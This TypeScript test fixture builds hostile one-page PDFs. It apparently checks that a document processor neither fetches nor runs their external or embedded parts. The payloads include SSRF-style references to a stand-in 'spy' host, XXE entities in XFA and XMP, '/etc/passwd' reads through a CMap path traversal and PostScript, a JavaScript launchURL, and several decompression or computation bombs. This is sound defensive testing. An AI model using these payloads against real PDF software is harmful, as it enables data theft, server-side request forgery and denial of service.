import type { HostileFile } from './hostile-file.ts'
import { onePage, streamOf } from './pdf-by-hand.ts'

const DRAWN = streamOf(Buffer.from('/X Do'))
const resources = '/Resources<</XObject<</X 6 0 R>>/Font<</F1 6 0 R>>>>'

/** Documents whose parts lie elsewhere, or are read by machines of their own: nothing of theirs is fetched or run. */
export function pdfsOfElsewhere(spy: string): HostileFile[] {
  const url = (name: string) => `<</FS/URL/F(${spy}/${name})>>`
  const picture = (entries: string) =>
    streamOf(
      Buffer.from('x'),
      `/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8${entries}`,
    )
  const drawing = (entries: string) => ({ page: resources, content: DRAWN, more: [picture(entries)] })
  const written: Record<string, Parameters<typeof onePage>[0]> = {
    'content of its page': { content: streamOf(Buffer.from(' '), `/F ${url('content')}`) },
    'a picture': drawing(`/F ${url('picture')}`),
    'a picture to be printed': drawing(
      `/Alternates[<</Image 6 0 R/F ${url('print')}/DefaultForPrinting true>>]`,
    ),
    'a picture in a printer’s store': drawing(`/OPI<</2.0<</Type/OPI/Version 2.0/F ${url('opi')}>>>>`),
    'a page of another file': {
      page: resources,
      content: DRAWN,
      more: [
        streamOf(
          Buffer.from(' '),
          `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F ${url('ref.pdf')}/Page 0>>`,
        ),
      ],
    },
    'a font': {
      page: resources,
      more: [
        `<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</Type/FontDescriptor/FontName/A/FontFile2 7 0 R>>>>`,
        streamOf(Buffer.from(' '), `/F ${url('font')}`),
      ],
    },
    'a table of signs': {
      page: resources,
      more: [
        '<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 7 0 R/DescendantFonts[]>>',
        streamOf(Buffer.from(' '), `/Type/CMap/UseCMap/../../../etc/passwd/F ${url('cmap')}`),
      ],
    },
    colours: drawing(`/ColorSpace[/ICCBased 7 0 R]/F ${url('icc')}`),
    'a form in XML': {
      catalogue: '/AcroForm<</XFA 6 0 R/Fields[]>>',
      more: [
        streamOf(
          Buffer.from(
            `<?xml-stylesheet type="text/xsl" href="${spy}/x.xsl"?><!DOCTYPE x [<!ENTITY % e SYSTEM "${spy}/x.dtd">%e;]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>`,
          ),
        ),
      ],
    },
    'a description': {
      catalogue: '/Metadata 6 0 R',
      more: [
        streamOf(
          Buffer.from(
            `<?xpacket begin=""?><!DOCTYPE x [<!ENTITY e SYSTEM "${spy}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`,
          ),
          '/Type/Metadata/Subtype/XML',
        ),
      ],
    },
    'who vouches for a signature': {
      catalogue: '/AcroForm<</SigFlags 3/Fields[6 0 R]>>/DSS<</OCSPs[]/CRLs[]>>',
      more: [
        `<</FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<30>/ByteRange[0 1 2 3]>>/SV<</TimeStamp<</URL(${spy}/tsa)/Ff 1>>/Cert<</URL(${spy}/cert)>>>>>>`,
      ],
    },
    'a film with a script': {
      page: `/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a.swf)${url('a.swf')}]>>>>>>]`,
    },
    'a film of old': {
      page: `/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F ${url('a.avi')}/Poster true>>>>]`,
    },
    'a body in space': {
      page: '/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 6 0 R>>]',
      more: [
        streamOf(Buffer.from('U3D'), `/Type/3D/Subtype/U3D/OnInstantiate 7 0 R`),
        streamOf(Buffer.from(`app.launchURL('${spy}')`)),
      ],
    },
    'a heap of files': {
      catalogue: `/Collection<</View/C/Navigator<</APIVersion(1.0)/LoadType/Module/SWF(a.swf)>>>>/Names<</EmbeddedFiles<</Names[(a)${url('a')}]>>>>`,
    },
    'a base for its addresses': {
      catalogue: `/URI<</Base(${spy}/)>>`,
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(x)>>>>]',
    },
    'a page of the web': { catalogue: `/SpiderInfo<</V 1.0/C[<</URL(${spy}/page)>>]>>` },
    'a sheet of numbers': drawing('/Filter/JBIG2Decode/DecodeParms<</JBIG2Globals 7 0 R>>'),
    'a picture of waves': drawing('/Filter/JPXDecode'),
    'a fax without end': drawing(
      '/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 999999999/Rows 999999999>>',
    ),
    'filters without end': drawing(`/Filter[${'/ASCIIHexDecode'.repeat(2000)}]`),
    'a table before each row': drawing(
      '/Filter/FlateDecode/DecodeParms<</Predictor 15/Colors 99999999/Columns 99999999>>',
    ),
    'a sum that never ends': {
      page: '/Resources<</ExtGState<</G<</TR 6 0 R>>>>>>',
      content: streamOf(Buffer.from('/G gs')),
      more: [streamOf(Buffer.from(`{${'dup '.repeat(100_000)}}`), '/FunctionType 4/Domain[0 1]/Range[0 1]')],
    },
    'a program in PostScript': {
      page: resources,
      content: DRAWN,
      more: [streamOf(Buffer.from('(/etc/passwd)(r)file'), '/Type/XObject/Subtype/PS')],
    },
  }
  return Object.entries(written).map(([name, otherwise]) => ({
    name: `elsewhere or by a machine of its own: ${name}`,
    bytes: onePage(otherwise),
    must: 'kept',
  }))
}
